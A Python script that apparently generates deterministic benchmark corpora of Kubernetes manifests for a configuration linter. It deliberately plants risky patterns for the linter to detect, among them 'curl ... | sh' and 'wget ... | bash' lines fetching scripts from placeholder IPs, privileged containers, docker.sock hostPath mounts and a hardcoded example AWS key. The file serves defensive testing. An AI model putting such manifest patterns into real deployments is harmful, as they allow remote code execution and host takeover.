#!/usr/bin/env python3
"""Deterministic benchmark corpora for cronguard (used by scripts/bench).

    scripts/gen_corpus.py synthetic DIR FILES [--seed N]
        A GitOps-like tree of FILES small manifests (CronJobs, Jobs, Deployments,
        StatefulSets, DaemonSets, Services, ConfigMaps with scripts, ServiceAccounts and RBAC,
        Argo CronWorkflows), 100 files per directory. About 10% hold several documents,
        about 15% carry something risky (privileged, hostPath, hostNetwork, `curl | sh`,
        `:latest`, secrets in env), about 1% are invalid (a YAML syntax error, a wrong type,
        a typo in a field name).

    scripts/gen_corpus.py realistic DIR MEGABYTES [--seed N]
        "Real-world shaped" manifests up to about MEGABYTES MB: rendered charts (multi-document
        files of 10-60 objects), long ConfigMaps (embedded config files and scripts of
        hundreds of lines), CustomResourceDefinitions with large openAPIV3Schema trees, and
        plain app directories. Written because the benchmark must run offline.

The same arguments give the same bytes (a private xorshift generator, no `random`), so
figures from different runs compare. Prints `files bytes` on stdout.

Overlap: the schema branch has a Rust generator (benches/corpus/mod.rs, 10k-file synthetic
corpus for its schema_overhead bench). This script covers the same synthetic shape plus the
realistic corpus and the CLI-level harness; the two can be unified once both are merged.
"""

import os
import sys

MASK = (1 << 64) - 1


class Rng:
    def __init__(self, seed):
        self.s = ((seed * 0x9E3779B97F4A7C15) & MASK) | 1

    def next(self):
        s = self.s
        s ^= (s << 13) & MASK
        s ^= s >> 7
        s ^= (s << 17) & MASK
        self.s = s
        return s

    def below(self, n):
        return self.next() % n

    def pick(self, seq):
        return seq[self.below(len(seq))]

    def chance(self, percent):
        return self.below(1000) < percent * 10


WORDS = ("api billing cache checkout events export feeds gateway images index ingest "
         "ledger mailer metrics nightly orders payments reports search sessions sync "
         "thumbnails users webhooks backup cleanup rotate audit etl").split()
TEAMS = ["team-a", "team-b", "platform", "data", "payments", "infra"]


def name(r, i):
    return f"{r.pick(WORDS)}-{r.pick(WORDS)}-{i}"


def container(r, ind, cname, risky):
    """One container; risky ones carry one or two of the patterns the rules look for."""
    registry = r.pick(["registry.example.com", "ghcr.io/example", "docker.io/library"])
    tag = f"1.{r.below(30)}.{r.below(10)}"
    if risky and r.chance(30):
        tag = "latest"
    image = f"{registry}/{cname}:{tag}"
    if not risky and r.chance(40):
        image += "@sha256:" + "".join("0123456789abcdef"[r.below(16)] for _ in range(64))
    lines = [
        f"{ind}- name: {cname}",
        f"{ind}  image: {image}",
        f"{ind}  imagePullPolicy: IfNotPresent",
    ]
    if risky and r.chance(40):
        lines += [f"{ind}  command: [\"/bin/sh\", \"-c\"]",
                  f"{ind}  args:",
                  f"{ind}    - curl -fsSL http://203.0.113.{r.below(250)}/run.sh | sh"]
    else:
        lines += [f"{ind}  args: [\"--mode\", \"batch\", \"--level\", \"{r.below(5)}\"]"]
    lines += [f"{ind}  env:",
              f"{ind}    - name: LOG_LEVEL",
              f"{ind}      value: info"]
    if risky and r.chance(25):
        lines += [f"{ind}    - name: AWS_SECRET_ACCESS_KEY",
                  f"{ind}      value: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY{r.below(100)}"]
    else:
        lines += [f"{ind}    - name: DB_PASSWORD",
                  f"{ind}      valueFrom:",
                  f"{ind}        secretKeyRef: {{name: db, key: password}}"]
    lines += [f"{ind}  resources:",
              f"{ind}    requests: {{cpu: {50 + r.below(900)}m, memory: {64 + r.below(900)}Mi}}",
              f"{ind}    limits: {{memory: {256 + r.below(2000)}Mi}}",
              f"{ind}  securityContext:"]
    if risky and r.chance(35):
        lines += [f"{ind}    privileged: true"]
    else:
        lines += [f"{ind}    runAsNonRoot: true",
                  f"{ind}    allowPrivilegeEscalation: false",
                  f"{ind}    readOnlyRootFilesystem: true",
                  f"{ind}    capabilities: {{drop: [ALL]}}"]
    if r.chance(30):
        lines += [f"{ind}  volumeMounts:",
                  f"{ind}    - name: data",
                  f"{ind}      mountPath: /data"]
    return lines


def pod_spec(r, ind, restart, risky, sa="worker"):
    lines = [f"{ind}restartPolicy: {restart}",
             f"{ind}serviceAccountName: {sa}"]
    if risky and r.chance(20):
        lines += [f"{ind}hostNetwork: true"]
    if risky and r.chance(15):
        lines += [f"{ind}hostPID: true"]
    lines += [f"{ind}securityContext:",
              f"{ind}  runAsUser: {10000 + r.below(1000)}",
              f"{ind}  seccompProfile: {{type: RuntimeDefault}}",
              f"{ind}containers:"]
    for i in range(1 + r.below(2)):
        lines += container(r, ind + "  ", f"c{i}", risky)
    if r.chance(30):
        lines += [f"{ind}volumes:", f"{ind}  - name: data"]
        if risky and r.chance(50):
            lines += [f"{ind}    hostPath: {{path: /var/run/docker.sock}}"]
        else:
            lines += [f"{ind}    emptyDir: {{}}"]
    return lines


def meta(r, n, ns):
    return ["metadata:", f"  name: {n}", f"  namespace: {ns}",
            "  labels:", f"    app.kubernetes.io/name: {n}",
            f"    app.kubernetes.io/part-of: {r.pick(TEAMS)}"]


def document(r, i, risky):
    n = name(r, i)
    ns = r.pick(TEAMS)
    k = r.below(20)
    if k < 7:
        out = ["apiVersion: batch/v1", "kind: CronJob"] + meta(r, n, ns) + [
            "spec:",
            f"  schedule: \"{r.below(60)} {r.below(24)} * * {r.pick(['*', '1-5', '0'])}\"",
            f"  concurrencyPolicy: {r.pick(['Forbid', 'Replace', 'Allow'])}",
            "  startingDeadlineSeconds: 300",
            "  successfulJobsHistoryLimit: 3",
            "  jobTemplate:", "    spec:",
            "      backoffLimit: 2",
            "      activeDeadlineSeconds: 3600",
            "      ttlSecondsAfterFinished: 86400",
            "      template:", "        spec:"]
        out += pod_spec(r, "          ", "OnFailure", risky)
    elif k < 9:
        out = ["apiVersion: batch/v1", "kind: Job"] + meta(r, n, ns) + [
            "spec:", "  backoffLimit: 1", "  ttlSecondsAfterFinished: 3600",
            "  template:", "    spec:"]
        out += pod_spec(r, "      ", "Never", risky)
    elif k < 12:
        kind = r.pick(["Deployment", "Deployment", "StatefulSet", "DaemonSet"])
        out = ["apiVersion: apps/v1", f"kind: {kind}"] + meta(r, n, ns) + ["spec:"]
        if kind != "DaemonSet":
            out += [f"  replicas: {1 + r.below(5)}"]
        out += ["  selector:", "    matchLabels:", f"      app.kubernetes.io/name: {n}",
                "  template:", "    metadata:", "      labels:",
                f"        app.kubernetes.io/name: {n}", "    spec:"]
        out += pod_spec(r, "      ", "Always", risky)
    elif k < 14:
        out = ["apiVersion: v1", "kind: Service"] + meta(r, n, ns) + [
            "spec:", "  selector:", f"    app.kubernetes.io/name: {n}",
            "  ports:", "    - name: http", f"      port: {r.pick([80, 443, 8080])}",
            "      targetPort: http"]
    elif k < 16:
        out = ["apiVersion: v1", "kind: ConfigMap"] + meta(r, n, ns) + [
            "data:", f"  LOG_LEVEL: \"{r.pick(['debug', 'info', 'warn'])}\"",
            "  run.sh: |", "    #!/bin/sh", "    set -eu"]
        for j in range(2 + r.below(6)):
            out += [f"    echo step {j}", f"    /app/bin/{r.pick(WORDS)} --batch {j}"]
        if risky and r.chance(30):
            out += ["    wget -qO- http://198.51.100.7/x | bash"]
    elif k < 18:
        out = ["apiVersion: v1", "kind: ServiceAccount"] + meta(r, n, ns) + [
            "automountServiceAccountToken: false", "---",
            "apiVersion: rbac.authorization.k8s.io/v1", "kind: Role"] + meta(r, n, ns) + [
            "rules:", "  - apiGroups: [\"\"]",
            f"    resources: [{r.pick(['configmaps', 'pods', 'secrets'])}]",
            "    verbs: [" + r.pick(['get, list', 'get', '"*"']) + "]", "---",
            "apiVersion: rbac.authorization.k8s.io/v1", "kind: RoleBinding"] + meta(r, n, ns) + [
            "subjects:", "  - kind: ServiceAccount", f"    name: {n}", f"    namespace: {ns}",
            "roleRef:", "  apiGroup: rbac.authorization.k8s.io", "  kind: Role",
            f"  name: {n}"]
    elif k < 19:
        out = ["apiVersion: argoproj.io/v1alpha1", "kind: CronWorkflow"] + meta(r, n, ns) + [
            "spec:", f"  schedule: \"0 {r.below(24)} * * *\"", "  timezone: Europe/Paris",
            "  workflowSpec:", "    entrypoint: main", "    templates:", "      - name: main",
            "        container:", f"          image: registry.example.com/argo/{n}:1.0",
            "          command: [python, run.py]"]
    else:
        out = ["apiVersion: v1", "kind: Pod"] + meta(r, n, ns) + ["spec:"]
        out += pod_spec(r, "  ", "Never", risky)
    return out


def invalid(r, lines):
    """Break a document: a syntax error, a wrong type or a misspelt field."""
    how = r.below(3)
    if how == 0:
        lines.insert(len(lines) // 2, "  bad: [unclosed, flow")
    elif how == 1:
        lines.append("  activeDeadlineSeconds: \"ten minutes\"")
    else:
        lines[:] = [ln.replace("imagePullPolicy", "imagePulPolicy") for ln in lines]
    return lines


def synthetic(root, files, seed):
    r = Rng(seed)
    total = 0
    for i in range(files):
        sub = os.path.join(root, r.pick(["apps", "jobs", "infra", "batch"]), f"d{i // 100:04d}")
        if i % 100 == 0 or not os.path.isdir(sub):
            os.makedirs(sub, exist_ok=True)
        docs = 1 + (r.below(3) + 1 if r.chance(10) else 0)
        parts = []
        for d in range(docs):
            lines = document(r, i * 4 + d, r.chance(15))
            if r.chance(1):
                lines = invalid(r, lines)
            parts.append("\n".join(lines) + "\n")
        text = "---\n".join(parts)
        path = os.path.join(sub, f"m{i:06d}.yaml")
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        total += len(text)
    return files, total


def crd(r, i):
    """A CustomResourceDefinition with a deep, wide openAPIV3Schema (like operator CRDs)."""
    group = f"{r.pick(WORDS)}.example.io"
    plural = f"{r.pick(WORDS)}s{i}"
    out = ["apiVersion: apiextensions.k8s.io/v1", "kind: CustomResourceDefinition",
           "metadata:", f"  name: {plural}.{group}", "spec:", f"  group: {group}",
           "  names:", f"    kind: Thing{i}", f"    plural: {plural}", "  scope: Namespaced",
           "  versions:", "    - name: v1", "      served: true", "      storage: true",
           "      schema:", "        openAPIV3Schema:", "          type: object",
           "          properties:"]

    def props(ind, depth):
        for p in range(4 + r.below(8)):
            pname = f"{r.pick(WORDS)}{p}"
            out.append(f"{ind}{pname}:")
            out.append(f"{ind}  description: >-")
            out.append(f"{ind}    {pname} configures the {r.pick(WORDS)} of the "
                       f"{r.pick(WORDS)} controller; see the operator documentation for the "
                       "accepted values and the defaults applied by the webhook.")
            if depth < 3 and r.chance(45):
                out.append(f"{ind}  type: object")
                out.append(f"{ind}  properties:")
                props(ind + "    ", depth + 1)
            else:
                t = r.pick(["string", "integer", "boolean", "array"])
                out.append(f"{ind}  type: {t}")
                if t == "array":
                    out.append(f"{ind}  items: {{type: string}}")

    props("            ", 0)
    return out


def long_configmap(r, i, ns):
    n = f"{r.pick(WORDS)}-config-{i}"
    out = ["apiVersion: v1", "kind: ConfigMap", "metadata:", f"  name: {n}",
           f"  namespace: {ns}", "data:"]
    for f in range(1 + r.below(4)):
        out.append(f"  {r.pick(WORDS)}-{f}.conf: |")
        for ln in range(80 + r.below(400)):
            out.append(f"    {r.pick(WORDS)}.{r.pick(WORDS)}.setting{ln} = "
                       f"{r.below(100000)}  # {r.pick(WORDS)} {r.pick(WORDS)}")
    out.append("  entrypoint.sh: |")
    out.append("    #!/bin/bash")
    for ln in range(20 + r.below(60)):
        out.append(f"    /opt/{r.pick(WORDS)}/bin/run --step {ln} --target {r.pick(WORDS)}")
    return out


def realistic(root, megabytes, seed):
    r = Rng(seed)
    budget = int(megabytes * 1_000_000)
    total = files = 0
    i = 0
    while total < budget:
        shape = r.below(10)
        ns = r.pick(TEAMS)
        if shape < 2:
            # A rendered chart: many objects in one file.
            path = os.path.join(root, "rendered", f"chart-{i:05d}.yaml")
            docs = []
            for d in range(10 + r.below(50)):
                docs.append(document(r, i * 100 + d, r.chance(10)))
            text = "---\n".join("# Source: chart/templates/x.yaml\n" + "\n".join(d) + "\n"
                                for d in docs)
        elif shape < 3:
            path = os.path.join(root, "crds", f"crd-{i:05d}.yaml")
            text = "\n".join(crd(r, i)) + "\n"
        elif shape < 5:
            path = os.path.join(root, "config", ns, f"cm-{i:05d}.yaml")
            text = "\n".join(long_configmap(r, i, ns)) + "\n"
        else:
            path = os.path.join(root, "apps", ns, f"app-{i // 50:04d}", f"m{i:05d}.yaml")
            docs = [document(r, i * 100 + d, r.chance(15)) for d in range(1 + r.below(4))]
            text = "---\n".join("\n".join(d) + "\n" for d in docs)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        total += len(text)
        files += 1
        i += 1
    return files, total


def main(argv):
    if len(argv) < 4 or argv[1] not in ("synthetic", "realistic"):
        sys.stderr.write(__doc__)
        return 2
    seed = 42
    if "--seed" in argv:
        seed = int(argv[argv.index("--seed") + 1])
    mode, root, size = argv[1], argv[2], argv[3]
    os.makedirs(root, exist_ok=True)
    if mode == "synthetic":
        files, total = synthetic(root, int(size), seed)
    else:
        files, total = realistic(root, float(size), seed)
    print(files, total)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
